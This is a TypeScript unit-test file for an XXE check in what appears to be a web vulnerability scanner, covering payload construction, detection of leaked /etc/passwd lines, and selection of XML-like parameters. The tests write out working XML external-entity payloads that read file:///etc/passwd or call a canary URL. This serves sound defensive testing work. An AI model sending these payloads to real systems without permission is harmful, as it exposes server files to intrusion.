import assert from 'node:assert/strict';
import { describe, it } from 'node:test';
import type { InjectionPoint } from '../check-kit/injection.ts';
import { findPasswdLine, looksLikeXmlParameter, xxeDocument } from './xxe.check.ts';

const point = (name: string, value: string, location: InjectionPoint['location'] = 'body'): InjectionPoint => ({
  method: 'POST',
  url: new URL('http://127.0.0.1/import'),
  body: '',
  location,
  name,
  value,
});

describe('XML external entity payloads', () => {
  it('keeps the shape of a crawled document: DOCTYPE named after its root, the entity in place of its first text', () => {
    assert.equal(
      xxeDocument('file:///etc/passwd', '<order><item>shoe</item><qty>1</qty></order>'),
      '<?xml version="1.0" encoding="UTF-8"?>\n<!DOCTYPE order [<!ENTITY prmtr SYSTEM "file:///etc/passwd">]>\n<order><item>&prmtr;</item><qty>1</qty></order>',
    );
    assert.equal(
      xxeDocument('http://canary/t', '<?xml version="1.0"?>\n<ns:a xmlns:ns="urn:x">\n  <b> x </b></ns:a>'),
      '<?xml version="1.0"?>\n<!DOCTYPE ns:a [<!ENTITY prmtr SYSTEM "http://canary/t">]>\n<ns:a xmlns:ns="urn:x">\n  <b>&prmtr;</b></ns:a>',
    );
  });

  it('falls back to a document of its own without a template, without text, or with a DOCTYPE already', () => {
    const own =
      '<?xml version="1.0" encoding="UTF-8"?>\n<!DOCTYPE prmtr [<!ENTITY prmtr SYSTEM "file:///etc/passwd">]>\n<prmtr>&prmtr;</prmtr>';
    for (const template of [undefined, '', 'perimeter', '<empty/>', '<a><b></b></a>', '<!DOCTYPE a><a>x</a>'])
      assert.equal(xxeDocument('file:///etc/passwd', template), own, String(template));
  });

  it('finds a passwd line only when the baseline lacks it', () => {
    const body = '<pre>root:x:0:0:root:/root:/bin/bash\ndaemon:x:1:1</pre>';
    assert.deepEqual(findPasswdLine(body, '<p>ok</p>'), { value: 'root:x:0:0:root:/root:/bin/bash', offset: 5 });
    assert.equal(findPasswdLine(body, 'root:x:0:0:root:/root:/bin/bash'), undefined);
    assert.equal(findPasswdLine('root:x:1000:1000:', ''), undefined);
  });

  it('tests parameters named like documents or holding XML, never path segments', () => {
    assert.equal(looksLikeXmlParameter(point('xml', 'perimeter')), true);
    assert.equal(looksLikeXmlParameter(point('payload', '')), true);
    assert.equal(looksLikeXmlParameter(point('doc', '<order/>')), true);
    assert.equal(looksLikeXmlParameter(point('doc', ' <?xml version="1.0"?><a/>')), true);
    assert.equal(looksLikeXmlParameter(point('q', 'shoe')), false);
    assert.equal(looksLikeXmlParameter(point('q', '< 5')), false);
    assert.equal(looksLikeXmlParameter(point('0', 'data.xml', 'path')), false);
  });
});
